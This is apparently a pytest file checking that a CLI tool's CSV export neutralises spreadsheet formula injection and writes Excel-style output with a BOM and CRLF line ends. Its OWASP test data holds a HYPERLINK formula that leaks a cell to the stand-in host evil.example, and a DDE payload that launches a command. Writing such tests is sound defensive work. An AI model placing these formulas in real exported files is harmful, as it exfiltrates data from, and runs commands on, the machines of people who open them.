"""Cells a spreadsheet would run as formulas are neutralised in every CSV shomei writes (OWASP's payloads),
and the Excel form is UTF-8 with a BOM and CRLF line ends."""

from __future__ import annotations

import csv
import io

import pytest

from shomei_cli.domain.csv_export import safe_cell, write_rows

OWASP = [
    (
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    ),
    ("+81-3-0000-0000", "'+81-3-0000-0000"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
]


@pytest.mark.parametrize(("value", "written"), OWASP)
def test_a_cell_that_would_start_a_formula_is_quoted(value: str, written: str) -> None:
    assert safe_cell(value) == written


@pytest.mark.parametrize("value", ["大阪 正人", "Osaka Masahito", "1301-00000001", "", "a=b", 1360, -5, None])
def test_anything_else_is_written_as_it_is(value: object) -> None:
    assert safe_cell(value) == value


def test_the_excel_form_has_a_bom_and_crlf_and_quoted_line_breaks_survive() -> None:
    out = io.StringIO(newline="")
    rows = [{"name": "=1+1", "address": "東京都千代田区\n丸の内3-2-2", "fee": 1360}]
    write_rows(out, ["name", "address", "fee"], [rows], excel=True)
    text = out.getvalue()
    assert text == '\ufeffname,address,fee\r\n\'=1+1,"東京都千代田区\n丸の内3-2-2",1360\r\n'
    assert list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""))) == [
        {"name": "'=1+1", "address": "東京都千代田区\n丸の内3-2-2", "fee": "1360"}
    ]


def test_the_plain_form_is_utf8_lines_without_a_bom() -> None:
    out = io.StringIO()
    write_rows(out, ["name"], [[{"name": "@x"}], [{"name": "ok"}]], excel=False)
    assert out.getvalue() == "name\n'@x\nok\n"
